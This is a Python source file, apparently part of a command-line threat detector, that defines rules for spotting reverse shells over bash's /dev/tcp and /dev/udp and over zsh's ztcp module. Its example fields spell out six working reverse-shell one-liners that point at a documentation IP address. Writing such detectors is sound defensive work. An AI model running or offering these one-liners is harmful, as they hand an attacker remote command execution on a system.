"""Shells whose input and output are a connection made with /dev/tcp."""

from apps.detection.argv.invocation import Invocation
from apps.detection.argv.launchers import SHELLS
from apps.detection.reading import Reading
from apps.detection.rules.base import Detail, Rule

_DEVICES = ("/dev/tcp/", "/dev/udp/")
_TALKS = ("read", "eval", "source", ".", "while")


def _address(target: str) -> str:
    return target.partition("/dev/")[2].partition("/")[2] if target.startswith(_DEVICES) else ""


def _descriptors(reading: Reading) -> dict[str, str]:
    """Numbers of descriptors that were opened on a connection, and where it leads."""
    found: dict[str, str] = {}
    for invocation in reading.invocations:
        for redirect in invocation.redirects:
            if redirect.fd and (address := _address(redirect.target)):
                found[redirect.fd.strip("{}")] = address
    return found


def _connected(invocation: Invocation, opened: dict[str, str]) -> str:
    """Where this program's standard streams lead, if over a connection."""
    for redirect in invocation.redirects:
        if (address := _address(redirect.target)) and redirect.fd in ("", "0", "1", "2"):
            return address
        number = redirect.target.strip("-&${}")
        if redirect.op in ("<&", ">&", "<>", "<", ">", "&>") and number in opened:
            return opened[number]
    return ""


def _is_shell(invocation: Invocation) -> bool:
    """A shell that takes its commands from its standard input."""
    if invocation.program not in SHELLS:
        return False
    operands = [word for word in invocation.args if word[:1] not in ("-", "+")]
    bundled = "".join(word[1:] for word in invocation.args if word[:1] == "-" and word[1:2] != "-")
    return not operands and "c" not in bundled.replace("norc", "").replace("noediting", "")


def _shell_on_connection(reading: Reading) -> Detail | None:
    opened = _descriptors(reading)
    for invocation in reading.invocations:
        where = _connected(invocation, opened)
        if where and (_is_shell(invocation) or invocation.program in ("eval", "source", ".")):
            return {"remote": where.replace("/", ":"), "shell": invocation.program}
    if not opened and not any(device in text for device in _DEVICES for text in reading.texts):
        return None
    return _piped(reading, opened) or _executes_lines(reading, opened)


def _executes_lines(reading: Reading, opened: dict[str, str]) -> Detail | None:
    """`while read line; do $line ...; done` on a connection runs whatever the other side sends."""
    for invocation in reading.invocations:
        runs = invocation.argv[:1] and invocation.argv[0][:1] == "$" and invocation.loops
        if (runs or (invocation.program == "eval" and invocation.loops)) and (opened or invocation.redirects):
            return {"remote": next(iter(opened.values()), "").replace("/", ":"), "shell": invocation.argv[0]}
    return None


def _piped(reading: Reading, opened: dict[str, str]) -> Detail | None:
    """`cat </dev/tcp/... | sh`, and a shell whose output goes there."""
    for stages in reading.pipelines:
        members = [i for stage in stages for i in stage]
        where = next((w for i in members if (w := _connected(i, opened))), "")
        if where and any(_is_shell(i) for i in members):
            return {"remote": where.replace("/", ":"), "shell": "pipeline"}
    return None


def _zsh(reading: Reading) -> Detail | None:
    loads = any(i.program == "zmodload" and "zsh/net/tcp" in i.args for i in reading.invocations)
    uses = next((i for i in reading.invocations if i.program == "ztcp"), None)
    shell = any(i.program in SHELLS or i.argv[:1] == ("$line",) for i in reading.invocations)
    return {"remote": ":".join(uses.args[-2:])} if uses and (loads or shell) else None


DEV_TCP = Rule(
    slug="shell-over-dev-tcp",
    version=1,
    family="shells",
    behaviour="reverse shell",
    level="critical",
    technique="T1059.004",
    title="Reverse shell over /dev/tcp",
    description=(
        "A shell reads its commands from, or writes its answers to, a connection opened with the shell's "
        "own /dev/tcp. A mere look whether a port is open does not match."
    ),
    false_positives="None known.",
    examples=(
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "0<&196;exec 196<>/dev/tcp/203.0.113.9/443; sh <&196 >&196 2>&196",
        "exec 5<>/dev/tcp/203.0.113.9/443;cat <&5 | while read line; do $line 2>&5 >&5; done",
        "sh -i 5<> /dev/tcp/203.0.113.9/443 0<&5 1>&5 2>&5",
        "bash -c 'bash -i > /dev/udp/203.0.113.9/53 2>&1 0<&1'",
    ),
    match=_shell_on_connection,
    reads="reading",
    hints=("/dev/tcp/", "/dev/udp/"),
)  # fmt: skip
ZSH = Rule(
    slug="shell-over-ztcp",
    version=1,
    family="shells",
    behaviour="reverse shell",
    level="critical",
    technique="T1059.004",
    title="Reverse shell over zsh's network module",
    description="zsh opens a connection with its own module.",
    false_positives="None known.",
    examples=("zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.9 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",),
    match=_zsh,
    reads="reading",
    hints=("ztcp",),
)
RULES = (DEV_TCP, ZSH)
